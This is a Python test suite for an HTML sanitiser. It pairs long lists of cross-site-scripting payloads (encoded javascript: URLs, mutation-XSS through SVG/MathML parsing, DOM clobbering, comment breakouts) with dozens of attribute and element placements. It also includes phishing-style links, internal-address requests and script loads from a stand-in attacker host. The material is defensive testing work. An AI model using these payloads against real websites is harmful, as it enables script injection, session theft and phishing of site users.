"""Attacks, put together from what they try (payloads) and where they try it (places)."""

import itertools

import pytest

from mainstem.content import clean
from tests.content.inspection import faults

BASE = "https://news.example/2024/post.html"

SCRIPTS = """
javascript:alert(1)
JaVaScRiPt:alert(1)
jav&#x09;ascript:alert(1)
jav&#10;ascript:alert(1)
jav&Tab;ascript&colon;alert(1)
&#1;javascript:alert(1)
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1)
java\0script:alert(1)
 javascript://news.example/%0aalert(1)
vbscript:msgbox(1)
livescript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
DATA:application/xhtml+xml,<x>
view-source:javascript:alert(1)
feed:javascript:alert(1)
blob:https://news.example/1
file:///etc/passwd
about:blank
ms-appinstaller:?source=x
intent://x#Intent;end
filesystem:https://news.example/temporary/x
""".strip("\n").split("\n")

PLACES = """
<a href="{}">x</a>
<a href={}>x
<a xlink:href="{}">x</a>
<img src="{}">
<img srcset="{} 1x, /a.png 2x">
<img src=/a.png lowsrc="{}" dynsrc="{}" longdesc="{}">
<img data-src="{}">
<picture><source srcset="{}"><img src=/a.png></picture>
<video src="{}" poster="{}"></video>
<video><source src="{}"><track src="{}"></video>
<audio src="{}"></audio>
<iframe src="{}"></iframe>
<iframe srcdoc="{}"></iframe>
<frameset><frame src="{}"></frameset>
<object data="{}"></object>
<embed src="{}">
<applet code="{}"></applet>
<form action="{}"><input type=submit formaction="{}"><button formaction="{}">x</button></form>
<input type=image src="{}">
<base href="{}"><a href=x>y</a>
<meta http-equiv=refresh content="0;url={}">
<link rel=stylesheet href="{}">
<body background="{}" onload=x><table background="{}"><td background="{}">x</table>
<blockquote cite="{}">x</blockquote><q cite="{}">y</q><del cite="{}">z</del>
<svg><a xlink:href="{}"><text>x</text></a></svg>
<svg><use href="{}#x"></use><image href="{}"/></svg>
<svg><animate xlink:href=#a attributeName=href values="{}"/><a id=a><text>x</text></a></svg>
<svg><set attributeName=href to="{}"/></svg>
<math><a xlink:href="{}">x</a></math>
<math href="{}"><mi xlink:href="{}">x</mi></math>
<math><maction actiontype=statusline href="{}">x</maction></math>
<map name=m><area href="{}"></map><img src=/a.png usemap=#m>
<div style="background:url({})">x</div>
<div style="behavior:url({});-moz-binding:url({})">x</div>
<a href=/x ping="{}">x</a>
<button type=button popovertarget=x formaction="{}">x</button>
<marquee behavior="{}">x</marquee>
<noscript><a href="{}">x</a></noscript>
<template><img src="{}"></template>
<x-frame src="{}"></x-frame>
<portal src="{}"></portal>
<iframe><a href="{}">x</a></iframe>
<table><a href="{}"><tr><td><a href="{}">x</table>
""".strip().split("\n")

WHOLE = r"""
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script/xss src="https://evil.example/x.js"></script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src=x/onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><desc><style><a title="</style><img src onerror=alert(1)>"></style></desc></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg onload=alert(1)></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>
<title><a title="</title><img src onerror=alert(1)>"></title>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<style><p title="</style><svg/onload=alert(1)>"></style>
<iframe><p title="</iframe><svg/onload=alert(1)>"></iframe>
<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">
<plaintext><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<?xml version="1.0"?><x onclick=alert(1)>y</x>
<?php <img src=x onerror=alert(1)> ?>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;
<!ELEMENT <img src=x onerror=alert(1)>>
</ <img src=x onerror=alert(1)>>
<a href="x" onclick="alert(1)" onmouseover=alert(1) style="position:fixed;inset:0">all over</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(//evil.example/x)">x</div>
<div style="width:expression(alert(1))">x</div>
<p class="modal overlay" id=location>x</p>
<a id=document><a id=document name=cookie href="cid:x">x</a>
<form id=x><input name=parentNode><input name=attributes></form>
<img name=body src=/a.png><img id=getElementById src=/b.png>
<object name=forms><embed name=location></object>
<a id=x tabindex=1 onfocus=alert(1) autofocus accesskey=x contenteditable>x</a>
<details open ontoggle=alert(1)>x</details>
<video autoplay onloadstart=alert(1) src=/a.mp4><source onerror=alert(1)></video>
<audio autoplay src=/a.mp3 onplay=alert(1)></audio>
<input onfocus=alert(1) autofocus>
<keygen autofocus onfocus=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<bgsound src=/x.mid><layer src=/x></layer><ilayer src=/x>
<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>
<xss onafterscriptexecute=alert(1) is=x slot=y part=z>x</xss>
<div popover id=p>x</div><button popovertarget=p>y</button>
<link rel=prefetch href=//evil.example/><link rel=import href=//evil.example/>
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<iframe src="https://evil.example/" sandbox=""></iframe>
<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>
<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>
<iframe src="https://evil.example/https://www.youtube.com/embed/x"></iframe>
<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>
<iframe src="https://www.youtube.com/embed/../redirect?q=x"></iframe>
<iframe src="https://www.youtube.com/embed/%2e%2e/redirect?q=x"></iframe>
<iframe src="https://www.youtube.com\.evil.example/embed/x"></iframe>
<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>" allow="camera *" name=top onload=x>
<a href="https://www.google.com@evil.example/">x</a>
<a href="https://evil.example/">https://bank.example/login</a>
<a href="https://evil.example/">www.bank.example</a>
<a href="https://evil.example/"><b>https://</b>bank.example</a>
<a href="https://evil.example/">https://bank&shy;.example/</a>
<a href="https://evil.example/">HTTPS://ｂａｎｋ．ｅｘａｍｐｌｅ</a>
<a href="https://evil.example/">&#x202e;elpmaxe.knab//:sptth</a>
<a href="https://evil.example/">Go to https://bank.example/ now</a>
<a href="http://xn--80ak6aa92e.com/">https://www.apple.com</a>
<a href="https:\\evil.example\x">x</a><a href="\\evil.example">y</a><a href="/\evil.example">z</a>
<a href="///evil.example">x</a><a href="https:///evil.example">y</a><a href="https:evil.example">z</a>
<a href="//evil.example">x</a><img src="//evil.example/x.png">
<a href="http://%65vil.example/">x</a><a href="http://ev%00il.example/">y</a>
<a href="http://evil.example:abc/">x</a><a href="http://[::1">y</a><a href="http://[v1.x]/">z</a>
<a href="http://a b.example/">x</a><a href="http://<script>/">y</a>
<a href="/x?utm_source=y&amp;utm_medium=z&amp;fbclid=1#utm_campaign=2">x</a>
<a href="https://evil.example/?utm%5Fsource=x&amp;amp;utm_medium=y">x</a>
<img src=http://127.0.0.1/logout><img src=http://2130706433/><img src=http://0x7f.1/><img src=http://[::1]/>
<img src=http://localhost:8080/x><img src=http://router.local/x><img src=http://192.168.1.1/x>
<img width=1 height=1 src=/t.gif><img width=0 src=/t><img height=1px src=/t><img style="width:1px" src=/t>
<img src="https://pixel.wp.com/b.gif?v=x"><img src="https://feeds.feedburner.com/~r/x/~4/y">
<img srcset="https://www.google-analytics.com/collect 1x"><img src=/a.png srcset="https://stats.wp.com/g.gif 2x">
<img src="https://ad.doubleclick.net/x"><img src=https://www.facebook.com/tr?id=1>
<a href=x target=_top target=_blank rel=opener download>x</a>
<p lang="x' onclick=alert(1) '" dir="evil" title='"><script>alert(1)</script>'>x</p>
<td colspan=99999999 rowspan=-1><ol start=99999999999999999999><li value=x>
<a href='x" onclick="alert(1)'>x</a>
<a title="&quot; onclick=&quot;alert(1)">x</a>
<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>
<b><p><table><b></p></b><a><table><a></table></a>
<table><tr><td><p><table><p></table><li><table><li></table>
<ruby><rt><h1><b><h2></b><button><p><p></button>
""".strip().split("\n")


@pytest.mark.parametrize("place", PLACES)
def test_no_script_passes_through_any_place(place):
    for script in SCRIPTS:
        attack = place.replace("{}", script)
        assert faults(clean(attack, BASE)) == [], attack


@pytest.mark.parametrize("attack", WHOLE)
def test_nothing_forbidden_is_left_of(attack):
    done = clean(attack, BASE)
    assert faults(done) == []
    assert clean(done, BASE) == done


@pytest.mark.parametrize("attack", WHOLE)
def test_nothing_forbidden_is_left_inside_other_elements_of(attack):
    for before, after in itertools.pairwise(
        [
            "<p>",
            "<table><td>",
            "<svg>",
            "<math><mi>",
            "<!--",
            "<select>",
            "<b a='",
            "<iframe>",
            "<title>",
            "<ul><li>",
        ]
    ):
        for wrapped in (before + attack + after, f"{before}{after}{attack}", attack + before + attack):
            done = clean(wrapped, BASE)
            assert faults(done) == [], wrapped
            assert clean(done, BASE) == done, wrapped


@pytest.mark.parametrize("attack", WHOLE)
def test_without_a_base_nothing_relative_is_left_of(attack):
    assert faults(clean(attack, "")) == []


def test_the_inspection_finds_what_is_wrong():
    for attack in ("<script>1</script>", "<a href=/x>y</a>", "<p id=x>y</p>", "<img src=x onerror=y>"):
        assert faults(attack), attack
    assert faults('<a href="https://evil.example/" rel="noopener noreferrer">www.bank.example</a>')


@pytest.mark.parametrize(
    "unit",
    [
        "<div>",
        "<b>",
        "<table><tr><td>",
        "<svg><p>",
        "<math><mi>",
        "<ul><li>",
        "<a href=x><div>",
        "<!--",
        "<iframe>",
        "<",
    ],
)
def test_ten_thousand_of_anything_is_survived(unit):
    done = clean(unit * 10_000 + "end", BASE)
    assert len(done) < 10_000_000
    assert clean(done, BASE) == done


def test_deep_documents_keep_their_text():
    assert "the end" in clean("<div>" * 5_000 + "the end" + "</div>" * 5_000, BASE)


def test_half_a_surrogate_pair_is_survived():
    assert clean("<p title='\ud800'>x\udfff</p>", BASE) == '<p title="?">x?</p>'


def test_control_characters_and_overrides_of_direction_are_left_out():
    assert clean("<p>a\x00b\x01c\u202ed&#2;e&#x202e;f</p>", BASE) == "<p>abcdef</p>"
